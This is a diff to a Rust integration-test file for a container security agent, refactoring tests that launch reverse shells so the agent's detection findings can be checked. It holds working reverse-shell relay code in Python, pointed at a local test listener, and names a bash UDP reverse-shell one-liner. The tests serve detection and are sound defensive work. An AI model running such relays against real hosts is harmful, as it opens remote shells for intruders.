@@ -455,6 +455,40 @@ fn mkfifo_cat_pipeline_reverse_shell() {
     assert_peer(&f, port);
 }
 
+/// A python interpreter relay: `setup` connects `s` to the listener and starts `/bin/sh` as
+/// `sh`, defining `put(data)` (to the shell) and `get()` (from it); a thread copies the socket
+/// into the shell, the main loop copies the shell's output back.
+fn python_relay(setup: &str) -> Vec<String> {
+    let code = format!(
+        "import socket,subprocess,threading\n{setup}\n\
+         def up():\n\
+         \x20while True:\n\
+         \x20\x20d=s.recv(1024)\n\
+         \x20\x20if not d: break\n\
+         \x20\x20put(d)\n\
+         threading.Thread(target=up,daemon=True).start()\n\
+         while True:\n\
+         \x20d=get()\n\
+         \x20if not d: break\n\
+         \x20s.sendall(d)\n\
+         s.close()\n"
+    );
+    vec!["python3".into(), "-c".into(), code]
+}
+
+/// The relay's shell: found by its stdin, written by the connected python process.
+fn assert_relayed_shell(agent: &Agent, c: &Container, port: u16, holder: &str) {
+    let f = agent.wait_for(c.id(), REVSHELL, |f| binary(f) == "/usr/bin/dash");
+    assert_eq!(args(&f), ["/bin/sh"]);
+    assert_eq!(
+        f["sourceProperties"]["Binding"],
+        "stdin pipe written by a process holding a remote connection"
+    );
+    assert_eq!(f["sourceProperties"]["Socket_Holder_Program"], holder);
+    assert_container(&f, c);
+    assert_peer(&f, port);
+}
+
 /// An interpreter relay: python connects, starts `/bin/sh` on pipes (`Popen(stdin=PIPE,
 /// stdout=PIPE)`) and copies bytes both ways with a thread. No socket is ever on the shell's
 /// fds 0-2: the evidence is the shell's stdin pipe, written by the connected python process.
@@ -462,78 +496,33 @@ fn mkfifo_cat_pipeline_reverse_shell() {
 fn python_popen_pipe_relay_reverse_shell() {
     let images = require_containers!();
     let (agent, c, port) = reverse_shell(&images, &images.debian, "rs-pyrelay", |p| {
-        vec![
-            "python3".into(),
-            "-c".into(),
-            format!(
-                "import socket,subprocess,threading\n\
-                 s=socket.create_connection(('127.0.0.1',{p}))\n\
-                 sh=subprocess.Popen(['/bin/sh'],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT)\n\
-                 def up():\n\
-                 \x20while True:\n\
-                 \x20\x20d=s.recv(1024)\n\
-                 \x20\x20if not d: break\n\
-                 \x20\x20sh.stdin.write(d);sh.stdin.flush()\n\
-                 \x20sh.stdin.close()\n\
-                 threading.Thread(target=up,daemon=True).start()\n\
-                 while True:\n\
-                 \x20d=sh.stdout.read1(1024)\n\
-                 \x20if not d: break\n\
-                 \x20s.sendall(d)\n\
-                 s.close()\n"
-            ),
-        ]
+        python_relay(&format!(
+            "s=socket.create_connection(('127.0.0.1',{p}))\n\
+             sh=subprocess.Popen(['/bin/sh'],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT)\n\
+             def put(d): sh.stdin.write(d);sh.stdin.flush()\n\
+             get=lambda: sh.stdout.read1(1024)"
+        ))
     });
-    let f = agent.wait_for(c.id(), REVSHELL, |f| binary(f) == "/usr/bin/dash");
-    assert_eq!(args(&f), ["/bin/sh"]);
-    assert_eq!(
-        f["sourceProperties"]["Binding"],
-        "stdin pipe written by a process holding a remote connection"
-    );
-    assert_eq!(f["sourceProperties"]["Socket_Holder_Program"], "python3");
-    assert_container(&f, &c);
-    assert_peer(&f, port);
+    assert_relayed_shell(agent, &c, port, "python3");
 }
 
 /// node's `child_process.spawn` gives the shell one end of an AF_UNIX socketpair (libuv), not a
-/// pipe. node is not in the test image: python does the same (socketpair, shell on one end,
-/// connection pumped to the other), which is what the agent sees of a node relay.
+/// pipe, and node payloads spawn the shell before they connect. node is not in the test image:
+/// python does the same, which is what the agent sees of a node relay.
 #[test]
 fn socketpair_relay_reverse_shell_like_node_spawn() {
     let images = require_containers!();
     let (agent, c, port) = reverse_shell(&images, &images.debian, "rs-sprelay", |p| {
-        vec![
-            "python3".into(),
-            "-c".into(),
-            format!(
-                "import socket,subprocess,threading\n\
-                 a,b=socket.socketpair()\n\
-                 sh=subprocess.Popen(['/bin/sh'],stdin=b,stdout=b,stderr=b)\n\
-                 b.close()\n\
-                 s=socket.create_connection(('127.0.0.1',{p}))\n\
-                 def up():\n\
-                 \x20while True:\n\
-                 \x20\x20d=s.recv(1024)\n\
-                 \x20\x20if not d: break\n\
-                 \x20\x20a.sendall(d)\n\
-                 threading.Thread(target=up,daemon=True).start()\n\
-                 while True:\n\
-                 \x20d=a.recv(1024)\n\
-                 \x20if not d: break\n\
-                 \x20s.sendall(d)\n\
-                 s.close()\n"
-            ),
-        ]
+        python_relay(&format!(
+            "a,b=socket.socketpair()\n\
+             sh=subprocess.Popen(['/bin/sh'],stdin=b,stdout=b,stderr=b)\n\
+             b.close()\n\
+             s=socket.create_connection(('127.0.0.1',{p}))\n\
+             put=a.sendall\n\
+             get=lambda: a.recv(1024)"
+        ))
     });
-    let f = agent.wait_for(c.id(), REVSHELL, |f| binary(f) == "/usr/bin/dash");
-    assert_eq!(args(&f), ["/bin/sh"]);
-    assert_eq!(
-        f["sourceProperties"]["Binding"],
-        "stdin pipe written by a process holding a remote connection"
-    );
-    assert_eq!(f["sourceProperties"]["Socket_Holder_Program"], "python3");
-    assert_container(&f, &c);
-    assert_peer(&f, port);
+    assert_relayed_shell(agent, &c, port, "python3");
 }
 
 /// The same relay in perl: IPC::Open2 starts the shell on pipes, a select() loop pumps.
@@ -556,11 +545,7 @@ fn perl_open2_pipe_relay_reverse_shell() {
             ),
         ]
     });
-    let f = agent.wait_for(c.id(), REVSHELL, |f| binary(f) == "/usr/bin/dash");
-    assert_eq!(args(&f), ["/bin/sh"]);
-    assert_eq!(f["sourceProperties"]["Socket_Holder_Program"], "perl");
-    assert_container(&f, &c);
-    assert_peer(&f, port);
+    assert_relayed_shell(agent, &c, port, "perl");
 }
 
 /// `sh -i >& /dev/udp/H/P 0>&1`: a connected UDP socket on the shell's stdin.
